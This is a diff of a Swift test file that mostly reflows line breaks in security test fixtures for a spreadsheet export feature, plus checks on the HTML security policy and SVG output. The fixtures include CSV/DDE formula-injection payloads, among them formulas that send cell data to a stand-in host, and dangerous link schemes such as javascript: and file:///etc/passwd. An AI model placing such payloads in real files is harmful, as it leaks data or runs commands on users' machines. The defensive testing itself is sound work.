@@ -9,8 +9,10 @@ import Testing
   /// From OWASP's page on CSV injection, the payloads it links to, and ASVS 1.2.10: formulas, DDE, and what hides
   /// them from a check of the first character.
   static let formulas = [
-    "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=1+2\";=1+2", "=1+2'\" ;,=1+2",
-    "=HYPERLINK(\"http://x.example?leak=\"&A1,\"click\")", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=1+2\";=1+2",
+    "=1+2'\" ;,=1+2",
+    "=HYPERLINK(\"http://x.example?leak=\"&A1,\"click\")",
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
     "=WEBSERVICE(\"http://x.example/\"&A1)", "=IMPORTXML(CONCAT(\"http://x.example?v=\",A1),\"//a\")",
     "=rundll32|'URL.dll,OpenURL calc.exe'!A", "+thespanishinquisition(cmd|'/c calc.exe'!A",
     "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\r\n=1+1",
@@ -18,14 +20,19 @@ import Testing
     "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(1)",
   ]
   static let addresses = [
-    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd",
-    "ftp://x.example/a", "vbscript:msgbox(1)", "mailto:a@x.example", "\\\\x.example\\share\\a", "//x.example/a",
-    " javascript:alert(1)", "https:javascript:alert(1)", "ms-word:ofe|u|http://x.example/a", "internal:Sheet1!A1",
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
+    "file:///etc/passwd",
+    "ftp://x.example/a", "vbscript:msgbox(1)", "mailto:a@x.example", "\\\\x.example\\share\\a",
+    "//x.example/a",
+    " javascript:alert(1)", "https:javascript:alert(1)", "ms-word:ofe|u|http://x.example/a",
+    "internal:Sheet1!A1",
     "external:c:\\a.xlsx", "http",
   ]
   static var controls: [String] {
     (Array(0...0x1F) + Array(0x7F...0x9F) + [0x200E, 0x202E, 0x2066, 0xFEFF, 0xFFFE, 0xFFFF])
-      .compactMap(Unicode.Scalar.init).flatMap { [String(Character($0)), "a" + String(Character($0)) + "=1"] }
+      .compactMap(Unicode.Scalar.init).flatMap {
+        [String(Character($0)), "a" + String(Character($0)) + "=1"]
+      }
   }
   static var all: [String] { formulas + addresses + HTMLSafetyTests.attacks + controls }
 
@@ -34,7 +41,8 @@ import Testing
     Column("rich", .text, title: LocalizedText(same: "rich"), meaning: LocalizedText(same: "rich")),
     Column("list", .list, title: LocalizedText(same: "list"), meaning: LocalizedText(same: "list")),
     Column("day", .date, title: LocalizedText(same: "day"), meaning: LocalizedText(same: "day")),
-    Column("address", .address, title: LocalizedText(same: "address"), meaning: LocalizedText(same: "address")),
+    Column(
+      "address", .address, title: LocalizedText(same: "address"), meaning: LocalizedText(same: "address")),
     Column("link", .text, title: LocalizedText(same: "link"), meaning: LocalizedText(same: "link")),
   ]
 
@@ -130,7 +138,8 @@ import Testing
         link.hasPrefix("#") || link == "data:,"
           || ["http://", "https://"].contains { link.lowercased().hasPrefix($0) }, "\(link)")
     }
-    let policy = try #require(text.firstMatch(of: try Regex("Content-Security-Policy\" content=\"([^\"]*)\"")))
+    let policy = try #require(
+      text.firstMatch(of: try Regex("Content-Security-Policy\" content=\"([^\"]*)\"")))
     let words = String(policy.output[1].substring ?? "")
     #expect(words.hasPrefix("default-src 'none'"))
     #expect(!words.contains("unsafe") && !words.contains("http") && !words.contains("*"))
@@ -145,7 +154,8 @@ import Testing
       }.first)
     let reader = try #require(SVGReader.read(try SVGChart(chart, in: workbook).text))
     let names = Set(reader.elements.map(\.name))
-    #expect(names.isDisjoint(with: ["script", "foreignObject", "image", "a", "use", "animate", "set", "iframe"]))
+    #expect(
+      names.isDisjoint(with: ["script", "foreignObject", "image", "a", "use", "animate", "set", "iframe"]))
     for element in reader.elements {
       #expect(!element.attributes.keys.contains { $0.hasPrefix("on") || $0.hasSuffix("href") })
     }
